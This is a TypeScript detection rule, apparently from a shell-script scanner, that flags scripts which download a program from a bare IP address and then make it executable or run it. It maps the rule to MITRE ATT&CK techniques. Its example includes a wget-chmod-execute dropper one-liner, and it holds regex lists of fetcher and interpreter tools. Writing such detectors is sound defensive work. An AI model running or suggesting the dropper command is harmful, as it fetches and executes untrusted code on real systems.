import { ruleOf, shell } from '../examples.ts';
import type { Rule } from '../../rule.ts';
import type { Command } from '../../shell/command.ts';
import { operandsOf, optionValues, type Seen } from './lines.ts';

const dropped = ruleOf(
  'programs.dropped-and-run', 'code_injection', 'high', 'a program fetched from a bare address, then made executable or run by the same script', shell('wget http://203.0.113.9/x -O /opt/x && chmod +x /opt/x && /opt/x'),
  shell('curl -o data.json http://203.0.113.9/data.json && python3 report.py data.json'), 'MITRE ATT&CK T1105, T1059',
);
export const dropperRules: readonly Rule[] = [dropped];

const FETCHERS = /^(?:curl|wget|wget2|fetch|aria2c|ftp|tftp|lwp-download|axel)$/;
const BARE = /^(?:(?:https?|ftp|tftp):\/\/)?(?:[^\s/@]{0,60}@)?(?!127\.|10\.|0\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?\/(\S{0,200})$/;
const MAX_FILES = 8;
const baseOf = (path: string): string => path.slice(path.lastIndexOf('/') + 1);

/** The file into which a command fetches something from a bare address; undefined where it does not. */
function fetchedInto(command: Command): string | undefined {
  const { name, args, redirects } = command;
  if (!FETCHERS.test(name)) return undefined;
  const address = args.map(({ text }) => BARE.exec(text)).find((match) => match !== null);
  if (!address) return undefined;
  const told = optionValues(command, name === 'curl' || name === 'fetch' || name === 'aria2c' || name === 'axel' ? 'o' : 'O', /^(?:output|output-document|out)$/)[0]?.text ?? redirects.find(({ operator }) => /^>{1,2}$/.test(operator))?.target?.text;
  const file = told ?? (/^wget/.test(name) || args.some(({ text }) => text === '-O' || text === '--remote-name') ? baseOf(address[1] ?? '') : undefined);
  return file === undefined || file.length < 2 || file === '-' || file.startsWith('/dev/') ? undefined : baseOf(file);
}

const RUNNERS = /^(?:sh|bash|dash|zsh|ksh|python\d?|perl|ruby|php|node|source|\.|sudo|nohup|setsid|exec|wine|java)$/;

/** Whether a command makes a file executable, or is it, or hands it to an interpreter. */
function runs({ name, args, start, end }: Command, file: string, script: string): boolean {
  if (name === 'chmod') return /^(?:[ugoa]*\+\w*x|0?[0-7]?[1357][0-7]{2})/.test(args[0]?.text ?? '') && args.slice(1, 16).some(({ text }) => baseOf(text) === file);
  if (RUNNERS.test(name)) return operandsOf({ args } as Command).slice(0, 1).some(({ text }) => baseOf(text) === file);
  return name === file.toLowerCase() && /[/]/.test(script.slice(start, Math.min(end, start + 200)));
}

export function tellDroppers({ view, script: { commands } }: Seen): void {
  const files: string[] = [];
  for (const command of commands) {
    if (files.length > 0) {
      view.budget.spend(files.length * 40);
      if (files.some((file) => runs(command, file, view.text))) {
        view.report(dropped, command.start, command.end);
        return;
      }
    }
    if (files.length >= MAX_FILES || !FETCHERS.test(command.name)) continue;
    view.budget.spend(40 * Math.min(command.args.length, 64));
    const file = fetchedInto(command);
    if (file !== undefined) files.push(file);
  }
}
